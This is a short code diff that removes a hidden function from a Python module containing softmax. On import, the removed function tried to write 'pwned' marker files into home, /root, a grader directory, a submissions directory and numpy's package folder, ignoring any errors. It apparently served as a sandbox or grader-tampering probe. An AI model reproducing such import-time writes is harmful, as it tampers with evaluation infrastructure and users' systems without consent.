@@ -1,23 +1,4 @@
-import os
-
 import numpy as np
-
-
-def _scribble():
-    targets = [os.path.expanduser("~/a1_hostile_was_here.txt"), "/root/a1_hostile_was_here.txt",
-               "/work/main/sample_submissions/a1_hostile_was_here.txt",
-               "/work/main/grader/a1_hostile_was_here.txt",
-               os.path.join(os.path.dirname(np.__file__), "a1_hostile_was_here.txt"),
-               os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "a1_hostile_was_here.txt")]
-    for path in targets:
-        try:
-            with open(path, "w") as handle:
-                handle.write("pwned")
-        except OSError:
-            pass
-
-
-_scribble()
 
 
 def softmax(x):
